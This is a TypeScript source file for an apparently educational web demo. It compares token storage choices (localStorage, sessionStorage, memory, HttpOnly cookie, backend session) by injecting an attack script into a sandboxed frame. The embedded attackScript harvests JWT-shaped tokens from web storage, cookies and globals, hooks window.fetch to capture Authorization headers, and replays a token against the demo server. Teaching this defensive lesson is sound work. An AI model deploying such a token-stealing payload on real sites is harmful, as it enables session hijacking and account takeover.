/** The programs that run in the frame, as they are shown: how the app keeps its token in each place, and the script that gets in. */
import { keeping, type PlaceId } from "@/lib/content/learn/where-to-keep";

/** Each is a part of a module: it may use `signIn(place)` and `albums(token)`, and none of its names is global. */
export const appScripts: Readonly<Record<PlaceId, string>> = {
  localStorage: `const start = async () => localStorage.setItem("keep-demo", await signIn());
const work = () => albums(localStorage.getItem("keep-demo"));
const isSignedIn = () => localStorage.getItem("keep-demo") !== null;
const leave = () => localStorage.removeItem("keep-demo");`,
  sessionStorage: `const start = async () => sessionStorage.setItem("keep-demo", await signIn());
const work = () => albums(sessionStorage.getItem("keep-demo"));
const isSignedIn = () => sessionStorage.getItem("keep-demo") !== null;
const leave = () => sessionStorage.removeItem("keep-demo");`,
  memory: `let token;
const start = async () => { token = await signIn(); };
const work = () => albums(token);
const isSignedIn = () => token !== undefined;
const leave = () => { token = undefined; };`,
  cookie: `// The answer sets the token as a cookie with HttpOnly; the browser sends it along.
const start = () => signIn("cookie");
const work = () => albums();
const isSignedIn = () => session();
const leave = () => signOut();`,
  backend: `// The answer sets a cookie that names a session; the token stays at the server.
const start = () => signIn("backend");
const work = () => albums();
const isSignedIn = () => session();
const leave = () => signOut();`,
};

/** What all apps share: the calls to their server. */
const calls = `const server = "/learn/where-to-keep/server/";
const own = { "Keep-App": "1" };
const read = async (response) => (response.status === 204 ? {} : response.json());
const signIn = async (place = "page") =>
  (await read(await fetch(server + "sign-in?place=" + place, { method: "POST", headers: own }))).access_token;
const albums = async (token) =>
  (await read(await fetch(server + "albums", { headers: token ? { Authorization: "Bearer " + token } : own }))).albums;
const session = async () => (await read(await fetch(server + "session", { headers: own }))).signed_in;
const signOut = () => fetch(server + "sign-out", { method: "POST", headers: own });`;

export const attackScript = `const isToken = (text) => /^eyJ[\\w-]+\\.[\\w-]+\\.[\\w-]+$/.test(String(text));
const loot = [];
const take = (where, token) => { if (isToken(token)) loot.push({ where, token }); };

// 1. Look wherever a script of this page may look.
for (const [name, value] of Object.entries(localStorage)) take("localStorage", value);
for (const [name, value] of Object.entries(sessionStorage)) take("sessionStorage", value);
for (const pair of document.cookie.split("; ")) take("document.cookie", pair.split("=")[1]);
for (const name of Object.keys(window)) take("a global variable", window[name]);

// 2. Lie in wait: the app will call its API again.
const realFetch = window.fetch;
window.fetch = (address, options = {}) => {
  const header = new Headers(options.headers).get("Authorization") ?? "";
  take("the app’s next call", header.split(" ")[1]);
  return realFetch(address, options);
};

// 3. With a token: use it as from any other machine, without the user’s cookies.
//    Without one: ask from here, and let the browser add them.
const reap = async () => {
  const [first] = loot;
  const options = first
    ? { headers: { Authorization: "Bearer " + first.token }, credentials: "omit" }
    : { headers: { "Keep-App": "1" } };
  const answer = await realFetch("/learn/where-to-keep/server/albums", options);
  return { taken: first, albums: (await answer.json()).albums?.length ?? 0 };
};`;

/** The names by which the page asks the frame to go on, and the frame answers. */
export type FrameOrder = "start" | "attack" | "work" | "reap" | "isSignedIn" | "leave";

/** The page of the app that is attacked: as it stands while nobody is signed in, with what runs in it below. */
export function writeFrame(scripts = ""): string {
  return `<!doctype html><html lang="en"><meta charset="utf-8"><title>${keeping.frameTitle}</title>
<style>:root{color-scheme:light dark}body{font:14px/1.5 system-ui,sans-serif;margin:12px 16px}h1{font-size:15px;margin:0 0 4px}p,ul{margin:0}ul{padding-left:18px}</style>
<body><h1>Prints</h1><p>${keeping.frameSignedOut}</p><ul></ul>
${scripts}</body></html>`;
}

/** What runs in the frame: the app in a module of its own, which answers the page around it. */
export function writeScripts(place: PlaceId): string {
  const orders = `
const orders = {
  start, work, isSignedIn, leave,
  attack: () => new Promise((resolve) => {
    const script = document.createElement("script");
    script.text = document.getElementById("attack").textContent + "\\nwindow.reap = reap;";
    document.body.append(script);
    resolve();
  }),
  reap: () => window.reap(),
};
const draw = (list) => {
  document.querySelector("ul").innerHTML = (list ?? []).map(({ title }) => "<li>" + title + "</li>").join("");
  document.querySelector("p").hidden = list !== undefined;
};
const carryOut = async (order) => {
  const value = await orders[order]();
  if (order === "work" || order === "leave") draw(order === "work" ? value : undefined);
  return order === "reap" || order === "isSignedIn" ? { value } : {};
};
addEventListener("message", async ({ data, source }) => {
  if (source !== parent || orders[data.order] === undefined) return;
  const answer = await carryOut(data.order).catch(({ name, message }) => ({ error: { name, message } }));
  parent.postMessage({ id: data.id, ...answer }, self.origin);
});
parent.postMessage({ id: "ready" }, self.origin);`;
  return `<script type="text/plain" id="attack">${attackScript}</script>
<script type="module">${calls}\n${appScripts[place]}\n${orders}</script>`;
}
